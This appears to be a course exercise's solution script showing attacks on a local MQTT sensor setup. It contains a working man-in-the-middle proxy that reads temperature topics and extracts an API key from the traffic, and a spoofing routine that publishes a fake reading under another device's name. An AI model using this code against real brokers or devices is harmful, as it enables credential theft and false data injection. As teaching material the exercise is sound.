// Stage 3: find out what somebody on the wire can read, and what somebody without the key can write.
//   node docs/course/3-attacks/solution.mjs listen 1884 1883      then point stage 2 at port 1884
//   node docs/course/3-attacks/solution.mjs lie mqtt://127.0.0.1:1883 NAME
import { connect, createServer } from "node:net";
import mqtt from "mqtt";

/** Passes everything on between a device and the broker, and shows each portion to `look`. */
function listen(port, brokerPort, look) {
  const server = createServer((device) => {
    const broker = connect(brokerPort, "127.0.0.1");
    device.on("data", look).on("error", () => broker.destroy());
    broker.on("data", look).on("error", () => device.destroy());
    device.pipe(broker).pipe(device);
  });
  server.listen(port, "127.0.0.1", () => console.log(`listening on ${server.address().port}`));
}

/** Privacy: MQTT is readable. Besides the values there are names, topics and, worst of all, the API key. */
function look(bytes) {
  const text = bytes.toString("latin1");
  for (const { index } of text.matchAll(/temperature\//g)) {
    // MQTT 3.1.1 §3.3: two bytes of length, the topic, two bytes of message identifier, the message.
    const end = index + bytes.readUInt16BE(index - 2);
    const value = Number.parseFloat(text.slice(end + 2));
    console.log(`read ${text.slice(index, end)} = ${value}`);
  }
  const key = /gh_[0-9A-Za-z]{10}_[0-9A-Za-z]{49}/.exec(text)?.[0];
  if (key !== undefined) console.log(`stole the key ${key.slice(0, 16)}…`);
}

/** Poisoning: log in as NAME without its key and publish a temperature. */
async function lie(url, name) {
  try {
    const client = await mqtt.connectAsync(
      url,
      { username: name, password: "guess", reconnectPeriod: 0 },
      false,
    );
    await client.publishAsync(`temperature/${name}`, "39.5", { qos: 1 });
    console.log("the lie was stored");
    client.end();
  } catch (error) {
    console.log(`refused: ${error.message}`);
  }
}

const [what, first, second] = process.argv.slice(2);
if (what === "listen") listen(Number(first), Number(second), look);
else await lie(first, second);
